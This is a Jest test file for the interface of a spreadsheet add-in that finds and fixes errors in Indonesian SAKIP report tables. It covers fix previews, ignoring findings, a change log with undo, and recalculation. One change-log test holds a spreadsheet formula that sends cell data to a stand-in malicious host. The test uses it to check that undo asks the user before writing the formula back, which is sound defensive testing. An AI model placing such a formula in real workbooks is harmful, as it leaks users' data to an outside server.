/** @jest-environment jsdom */
import './dom';
import { act, render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import type { SavedState } from '#app';
import type { Fix } from '#core/finding';
import type { Workbook } from '#core/grid';
import type { RecalculationItem } from '#core/recalculate';
import { createSession, Pane, type Session } from '#ui';
import { at, checkResult, finding as fixture } from '../support/check-result';
import { MemoryPort } from '../support/memory-port';
import { BOOK, MIXED } from './books';

interface Opening {
  readonly workbook?: Workbook;
  readonly language?: string;
  /** What the workbook keeps of an earlier sitting. */
  readonly saved?: SavedState;
  readonly change?: (session: Session) => Session;
}

async function open({ workbook = BOOK, language = 'id-ID', saved, change = (one) => one }: Opening = {}) {
  const port = new MemoryPort(workbook);
  port.saved = saved;
  const session = change(createSession(port));
  await session.start();
  render(<Pane session={session} language={language} theme="light" functions={[]} />);
  const user = userEvent.setup({ pointerEventsCheck: 0 });
  const check = async () => {
    await user.click(button(/^(Periksa|Check)$/));
    await screen.findByText(/perhitungan diperiksa|calculations checked/);
  };
  return { port, session, user, check };
}

const button = (name: string | RegExp) => screen.getByRole('button', { name });
const findButton = (name: string | RegExp) => screen.findByRole('button', { name });
const panel = (name: string | RegExp) => screen.findByRole('region', { name });

/** Two ways to mend a capaian: by its own figure, or by the one it rests on. */
const WAYS: readonly Fix[] = [
  {
    kind: 'suggested',
    label: 'Ganti capaian menjadi 112,50',
    changes: [{ at: at('BAB III', 'F3'), from: { value: 121.5, format: '0.00' }, to: { value: 112.5 } }],
    restsOn: [at('BAB III', 'E3'), at('BAB II', 'D3')],
    certain: false,
  },
  {
    kind: 'suggested',
    label: 'Ganti realisasi menjadi 97,2',
    changes: [{ at: at('BAB III', 'E3'), from: { value: 90 }, to: { value: 97.2 } }],
    restsOn: [at('BAB III', 'F3')],
    certain: true,
  },
];

describe('a suggested fix', () => {
  it('is shown before it is made: before and after, and what it rests on; then the finding is gone', async () => {
    const { port, user, check } = await open();
    await check();
    await user.click(await findButton(/Capaian F3/));
    await user.click(await findButton('Perbaiki…'));
    const preview = await panel('Pratinjau perbaikan');
    expect(document.activeElement?.textContent).toBe('Pratinjau perbaikan');
    expect(within(preview).getByText('Ganti capaian 121,50 menjadi 112,50')).toBeTruthy();
    expect(within(preview).getByRole('listitem').textContent).toBe('F3121,50 →menjadi 112,50');
    await user.click(within(preview).getByRole('button', { name: 'Buka sel D3' }));
    expect(port.shown.at(-1)).toEqual(at('BAB III', 'D3'));
    expect(port.edits).toEqual([]);
    await user.click(within(preview).getByRole('button', { name: 'Terapkan' }));
    expect(await screen.findByText(/1 sel sudah diubah\. Temuannya tidak ada lagi\./)).toBeTruthy();
    expect(port.edits.map((edit) => edit.at)).toEqual([at('BAB III', 'F3')]);
    expect(screen.queryByRole('button', { name: /Capaian F3/ })).toBeNull();
    // The next finding has the focus, for who works by keyboard.
    await findButton(/Capaian F4/);
    await waitFor(() => expect(document.activeElement).toBe(button(/Capaian F4/)));
    await user.click(button('Batalkan'));
    expect(await screen.findByText('1 sel sudah dikembalikan seperti semula.')).toBeTruthy();
    expect(port.workbook).toEqual(BOOK);
  });

  it('is left by Escape or Batal without a change, with the focus where it was', async () => {
    const { port, user, check } = await open();
    await check();
    await user.click(await findButton(/Capaian F3/));
    for (const leave of ['{Escape}', '']) {
      await user.click(await findButton('Perbaiki…'));
      await panel('Pratinjau perbaikan');
      if (leave) await user.keyboard(leave);
      else await user.click(button('Batal'));
      expect(screen.queryByRole('region', { name: 'Pratinjau perbaikan' })).toBeNull();
      await waitFor(() => expect(document.activeElement).toBe(button('Perbaiki…')));
      expect(button(/Capaian F3/).getAttribute('aria-expanded')).toBe('true');
    }
    expect(port.edits).toEqual([]);
  });

  it('lists the choices where it is not known which figure is wrong, each with what it changes', async () => {
    const { port, session, user, check } = await open();
    await check();
    const findings = [fixture({ at: at('BAB III', 'F3'), fixes: WAYS })];
    act(() => session.dispatch({ type: 'rechecked', result: checkResult({ findings }) }));
    await user.click(await findButton(/Capaian F3/));
    await user.click(await findButton('Perbaiki…'));
    const preview = await panel('Pratinjau perbaikan');
    const choices = within(preview).getAllByRole('radio');
    expect(choices.map((one) => (one as HTMLInputElement).checked)).toEqual([true, false]);
    expect(within(preview).getByText(/Belum pasti angka mana yang keliru/)).toBeTruthy();
    expect(within(preview).getByRole('button', { name: 'Buka sel BAB II!D3' })).toBeTruthy();
    await user.click(within(preview).getByRole('radio', { name: 'Ganti realisasi menjadi 97,2' }));
    expect(within(preview).getByRole('listitem').textContent).toBe('E390 →menjadi 97,2');
    expect(within(preview).queryByText(/Belum pasti/)).toBeNull();
    await user.click(within(preview).getByRole('button', { name: 'Terapkan' }));
    await screen.findByText(/1 sel sudah diubah/);
    expect(port.edits).toMatchObject([WAYS[1]?.changes[0]]);
  });

  it('says that a formula gives way to a figure', async () => {
    const { user, check } = await open({ workbook: MIXED });
    await check();
    await user.click(await findButton(/Capaian F4/));
    await user.click(await findButton('Perbaiki…'));
    expect(
      within(await panel('Pratinjau perbaikan')).getByText('Rumus =E4+36,44 diganti angka.'),
    ).toBeTruthy();
  });

  it('is refused where the cell has changed, and says so', async () => {
    const { port, user, check } = await open();
    await check();
    await user.click(await findButton(/Capaian F3/));
    await user.click(await findButton('Perbaiki…'));
    await panel('Pratinjau perbaikan');
    act(() => port.type(at('BAB III', 'F3'), 5));
    await user.click(button('Terapkan'));
    expect(await screen.findByText('Perbaikan tidak diterapkan.')).toBeTruthy();
    expect(screen.getByText(/sudah berubah sejak pemeriksaan/)).toBeTruthy();
  });

  it('tells the message of a finding that is still there', async () => {
    const { session, user, check } = await open();
    await check();
    const still = [fixture({ message: 'Masih berbeda dari 88,27.' })];
    act(() =>
      session.dispatch({
        type: 'notice',
        notice: { kind: 'changed', cells: 1, outcome: { gone: 0, still, fresh: 2 }, refused: [] },
      }),
    );
    expect(
      screen.getByText(/Temuannya masih ada: Masih berbeda dari 88,27\. 2 temuan baru muncul/),
    ).toBeTruthy();
    await user.click(button('Tutup pesan'));
  });
});

describe('safe fixes', () => {
  it('say what they change and are made by one click, from the finding', async () => {
    const { port, user, check } = await open({ workbook: MIXED });
    await check();
    await user.click(await findButton(/Format angka D3/));
    const item = await screen.findByText(/80 \(angka\)/);
    expect(item.closest('li')?.textContent).toBe('D380 (teks) →menjadi 80 (angka)');
    await user.click(button('Perbaiki'));
    await screen.findByText(/sel sudah diubah/);
    expect(port.edits[0]).toMatchObject({ at: at('BAB III', 'D3'), to: { value: 80 } });
  });

  it('are shown by table and kind, and made all at once', async () => {
    const { port, user, check } = await open({ workbook: MIXED });
    await check();
    await user.click(await findButton(/^Lihat: \d+ perbaikan aman/));
    await screen.findByRole('heading', { name: 'Perbaikan aman' });
    await waitFor(() => expect(document.activeElement?.textContent).toBe('Perbaikan aman'));
    await user.click(button(/Tabel 3\.2 Format angka · 2 sel/));
    expect(screen.getAllByRole('listitem').map((one) => one.textContent)).toContain(
      'D482 (teks) →menjadi 82 (angka)',
    );
    await user.click(button('Terapkan pada 2 sel'));
    expect(await screen.findByText(/2 sel sudah diubah/)).toBeTruthy();
    expect(port.saved?.history).toHaveLength(1);
    expect(screen.queryByText(/perbaikan aman/)).toBeNull();
    expect(await findButton('Catatan perubahan (2)')).toBeTruthy();
  });
});

describe('ignoring', () => {
  it('needs a reason, and hides the finding until it is shown again', async () => {
    const { port, user, check } = await open();
    await check();
    await user.click(await findButton(/Capaian F3/));
    await user.click(await findButton('Abaikan…'));
    const form = await panel('Abaikan temuan');
    const ignore = within(form).getByRole('button', { name: 'Abaikan' });
    expect(ignore).toHaveProperty('disabled', true);
    await user.type(within(form).getByRole('textbox', { name: 'Alasan (wajib)' }), '   ');
    expect(ignore).toHaveProperty('disabled', true);
    await user.click(within(form).getByRole('button', { name: 'Selisih karena pembulatan' }));
    await user.click(ignore);
    expect(await screen.findByText('1 temuan diabaikan.')).toBeTruthy();
    expect(screen.queryByRole('button', { name: /Capaian F3/ })).toBeNull();
    expect(port.saved?.ignored).toMatchObject([
      { reason: 'Selisih karena pembulatan', about: 'BAB III!F3: tertulis 121,50, seharusnya 112,50' },
    ]);
    await user.click(button('1 diabaikan'));
    expect(await screen.findByText('BAB III!F3: tertulis 121,50, seharusnya 112,50')).toBeTruthy();
    await user.click(button(/^Tampilkan lagi: Capaian/));
    expect(await screen.findByText('Tidak ada temuan yang diabaikan.')).toBeTruthy();
    await user.click(button(/Kembali ke temuan/));
    expect(await findButton(/Capaian F3/)).toBeTruthy();
  });

  it('may mean all of a kind in a table', async () => {
    const { port, user, check } = await open();
    await check();
    await user.click(await findButton(/Capaian F3/));
    await user.click(await findButton('Abaikan…'));
    await user.click(await screen.findByRole('radio', { name: 'Semua temuan “Capaian” pada tabel ini (2)' }));
    await user.type(screen.getByRole('textbox', { name: 'Alasan (wajib)' }), 'Pedoman kami lain');
    await user.click(button('Abaikan'));
    expect(await screen.findByText('2 temuan diabaikan.')).toBeTruthy();
    expect(screen.getByRole('heading', { name: 'Tidak ada temuan' })).toBeTruthy();
    expect(button('2 diabaikan')).toBeTruthy();
    expect(port.marks).toEqual([]);
  });

  it('tells what has nothing to hide any more, and lets it go', async () => {
    const time = '2026-01-02T03:04:05.000Z';
    const ignored = ['a', 'b'].map((fingerprint) => ({
      rule: 'capaian' as const,
      fingerprint,
      table: 'x',
      about: `lama ${fingerprint}`,
      reason: 'r',
      time,
    }));
    const { port, user, check } = await open({ saved: { settings: {}, ignored, history: [] } });
    await check();
    await user.click(await findButton('0 diabaikan'));
    expect(await screen.findByRole('heading', { name: 'Tidak ada lagi temuannya' })).toBeTruthy();
    await user.click(button(/^Hapus: Capaian, lama a/));
    expect(port.saved?.ignored).toEqual(ignored.slice(1));
  });
});

describe('the log of changes', () => {
  async function changed() {
    const opened = await open();
    const { session, check } = opened;
    await check();
    for (const cell of [2, 3]) {
      const one = session.state().result?.findings.find(({ at: { row } }) => row === cell);
      await act(async () => void (await session.fix(one as never, one?.fixes[0] as never)));
    }
    await opened.user.click(await findButton('Catatan perubahan (2)'));
    await screen.findByRole('heading', { name: 'Catatan perubahan' });
    return opened;
  }

  it('lists the newest first, with cells and reasons, and takes the last one back', async () => {
    const { port, user } = await changed();
    const batches = screen.getAllByRole('button', { name: /Capaian · 1 sel/ });
    expect(batches).toHaveLength(2);
    await user.click(batches[0] as HTMLElement);
    expect(button('Buka sel BAB III!F4')).toBeTruthy();
    expect(screen.getByText(/Capaian tertulis 120,44/)).toBeTruthy();
    await user.click(button('Batalkan perubahan terakhir'));
    expect(await screen.findByText('1 sel sudah dikembalikan seperti semula.')).toBeTruthy();
    expect(port.saved?.history).toHaveLength(1);
    expect(screen.getByRole('heading', { name: 'Catatan perubahan' })).toBeTruthy();
  });

  it('takes all back after a question', async () => {
    const { port, user } = await changed();
    await user.click(button('Batalkan semua'));
    await user.click(
      within(await panel(/2 sel dikembalikan/)).getByRole('button', { name: 'Jangan batalkan' }),
    );
    expect(port.saved?.history).toHaveLength(2);
    await user.click(button('Batalkan semua'));
    await user.click(button('Ya, batalkan semua'));
    expect(await screen.findByText('Belum ada perubahan oleh SAKIP pada buku kerja ini.')).toBeTruthy();
    expect(port.workbook).toEqual(BOOK);
  });

  it('shows dates as their cells do, before the first check too, also where days count from 1904', async () => {
    const change = {
      at: at('BAB III', 'B9'),
      from: { value: '31-12-2024' },
      to: { value: 44_195, format: 'dd/mm/yyyy' },
      rule: 'format-angka',
      reason: 'x',
    };
    const time = '2026-01-02T03:04:05.000Z';
    const saved = { settings: {}, ignored: [], history: [{ time, changes: [change] }] } as SavedState;
    const { user } = await open({ saved, workbook: { ...BOOK, date1904: true } });
    await user.click(await findButton('Catatan perubahan (1)'));
    await user.click(await findButton(/Format angka · 1 sel/));
    expect(screen.getByText('31/12/2024 (angka)')).toBeTruthy();
  });

  it('writes no formula that the workbook brought with it before the user has seen it', async () => {
    const F3 = at('BAB III', 'F3');
    const formula = 'WEBSERVICE("https://jahat.test/?"&B3)';
    const change = {
      at: F3,
      from: { value: 1, formula },
      to: { value: 121.5 },
      rule: 'capaian',
      reason: 'x',
    };
    const time = '2026-01-02T03:04:05.000Z';
    const saved = { settings: {}, ignored: [], history: [{ time, changes: [change] }] } as SavedState;
    const { port, user, check } = await open({ saved });
    await check();
    await user.click(await findButton('Catatan perubahan (1)'));
    await user.click(await findButton('Batalkan perubahan terakhir'));
    const question = await panel(/1 sel dikembalikan/);
    expect(within(question).getByText(`Rumus =${formula}`)).toBeTruthy();
    expect(port.edits).toEqual([]);
    await user.click(within(question).getByRole('button', { name: 'Jangan batalkan' }));
    expect(port.edits).toEqual([]);
    await user.click(button('Batalkan perubahan terakhir'));
    await user.click(button('Ya, batalkan'));
    expect(await screen.findByText('1 sel sudah dikembalikan seperti semula.')).toBeTruthy();
    expect(port.edits.map((edit) => edit.to.formula)).toEqual([formula]);
  });

  it('becomes a sheet, and a file, or a text where no file can be stored', async () => {
    const { port, user } = await changed();
    const blobs: Blob[] = [];
    Object.assign(URL, {
      createObjectURL: (blob: Blob) => {
        blobs.push(blob);
        return 'blob:x';
      },
      revokeObjectURL: () => {},
    });
    const clicked: string[] = [];
    HTMLAnchorElement.prototype.click = function () {
      clicked.push(this.download);
    };
    await user.click(button('Buat lembar Catatan SAKIP'));
    expect(await screen.findByText('Lembar “Catatan SAKIP” sudah dibuat.')).toBeTruthy();
    expect(port.workbook.sheets.at(-1)?.name).toBe('Catatan SAKIP');
    await user.click(button('Unduh catatan (JSON)'));
    expect([clicked, blobs.length]).toEqual([['catatan-sakip.json'], 1]);
    const text = screen.getByRole('textbox', { name: 'Isi catatan' }) as HTMLTextAreaElement;
    expect(JSON.parse(text.value).changes).toHaveLength(2);
    await user.click(button('Salin teks'));
    expect(await screen.findByText('Teks sudah disalin.')).toBeTruthy();
    expect(await navigator.clipboard.readText()).toBe(text.value);
  });
});

describe('Hitung ulang', () => {
  const item = (cell: string, parts: Partial<RecalculationItem> = {}): RecalculationItem => ({
    change: {
      at: at('BAB III', cell),
      from: { value: cell === 'F3' ? 121.5 : 120.44 },
      to: { value: 1, formula: `E${cell.slice(1)}/D${cell.slice(1)}*100` },
    },
    role: 'capaian',
    label: `baris ${cell}`,
    stated: '121,50',
    gives: '112,50',
    ...parts,
  });

  it('lists the cells of a table with what they get, leaves out what is not wanted, and is one change', async () => {
    const asked: string[] = [];
    const { port, user, check } = await open({
      change: (session) => ({
        ...session,
        planRecalculation: async (table, style) => {
          asked.push(`${table} ${style}`);
          return {
            items: [item('F3'), item('F4', { stated: '1', gives: '1' })],
            skipped: [{ at: at('BAB III', 'D3'), reason: 'Targetnya kosong.' }],
          };
        },
      }),
    });
    await check();
    await user.click(screen.getByRole('tab', { name: 'Tabel' }));
    await user.click(button(/3\.2/));
    await user.click(await findButton('Hitung ulang…'));
    const form = await panel('Hitung ulang');
    await user.click(within(form).getByRole('radio', { name: /Rumus Excel biasa/ }));
    expect(asked).toEqual(['t2 sakip', 't2 sakip', 't2 excel']);
    expect(within(form).getByText('=E3/D3*100')).toBeTruthy();
    expect(within(form).getByText('(nilai tetap)')).toBeTruthy();
    expect(
      within(form).getByRole('heading', { name: 'Tidak dapat diganti (1)' }).parentElement?.textContent,
    ).toContain('Targetnya kosong: D3');
    await user.click(within(form).getByRole('checkbox', { name: 'Ganti sel F4, Capaian' }));
    await user.click(within(form).getByRole('button', { name: 'Terapkan pada 1 sel' }));
    expect(await screen.findByText(/1 sel sudah diubah/)).toBeTruthy();
    expect(port.saved?.history[0]?.changes).toMatchObject([
      { at: at('BAB III', 'F3'), rule: 'hitung-ulang', to: { formula: 'E3/D3*100' } },
    ]);
  });

  const shown = async (plan: Session['planRecalculation']) => {
    const opened = await open({ change: (session) => ({ ...session, planRecalculation: plan }) });
    await opened.check();
    await opened.user.click(screen.getByRole('tab', { name: 'Tabel' }));
    await opened.user.click(button(/3\.2/));
    return opened;
  };

  it('says for which formulas nothing can be replaced, and asks for a check where the workbook has changed', async () => {
    const { port, user } = await shown(async (_, style) => ({
      items: style === 'excel' ? [] : [item('F3')],
      skipped: [],
    }));
    await user.click(await findButton('Hitung ulang…'));
    await user.click(screen.getByRole('radio', { name: /Rumus Excel biasa/ }));
    expect(await screen.findByText(/Tidak ada angka ketikan/)).toBeTruthy();
    await user.click(screen.getByRole('radio', { name: /Fungsi SAKIP/ }));
    act(() => port.change());
    expect(await findButton('Terapkan pada 1 sel')).toHaveProperty('disabled', true);
  });

  it('is not offered where nothing can be replaced: that is said, unless no result is typed at all', async () => {
    const skipped = [{ at: at('BAB III', 'D3'), reason: 'Targetnya kosong.' }];
    const plans = { t1: { items: [], skipped: [] }, t2: { items: [], skipped } };
    const { user } = await shown(async (table) => plans[table as 't1' | 't2']);
    expect(await screen.findByText(/Tidak ada angka ketikan/)).toBeTruthy();
    await user.click(button(/2\.1/));
    await act(async () => {});
    expect(screen.getAllByText(/Tidak ada angka ketikan/)).toHaveLength(1);
    expect(screen.queryByRole('button', { name: 'Hitung ulang…' })).toBeNull();
  });

  it('is offered no more once all is replaced, and the focus is on the table then', async () => {
    const { user, check } = await open();
    await check();
    await user.click(screen.getByRole('tab', { name: 'Tabel' }));
    await user.click(button(/3\.2/));
    await user.click(await findButton('Hitung ulang…'));
    await user.click(await findButton('Terapkan pada 2 sel'));
    expect(await screen.findByText(/2 sel sudah diubah/)).toBeTruthy();
    await waitFor(() => expect(screen.queryByRole('button', { name: 'Hitung ulang…' })).toBeNull());
    await waitFor(() => expect(document.activeElement).toBe(button(/3\.2/)));
  });

  it('is worked out no further once its table is closed', async () => {
    let asked: (() => boolean) | undefined;
    const { user } = await shown((_table, _style, isWanted) => {
      asked = isWanted;
      return new Promise(() => {});
    });
    await waitFor(() => expect(asked?.()).toBe(true));
    await user.click(button(/3\.2/));
    expect(asked?.()).toBe(false);
  });
});

describe('in English', () => {
  it('acts in English, and leaves what the report says as it is', async () => {
    const { user, check } = await open({ language: 'en-US' });
    await check();
    await user.click(await findButton(/Achievement \(capaian\) F3/));
    await user.click(await findButton('Fix…'));
    expect(await panel('Preview of the fix')).toBeTruthy();
    expect(screen.getByText('Ganti capaian 121,50 menjadi 112,50').lang).toBe('id');
    expect(screen.getByRole('switch', { name: 'Check while typing' })).toBeTruthy();
  });
});
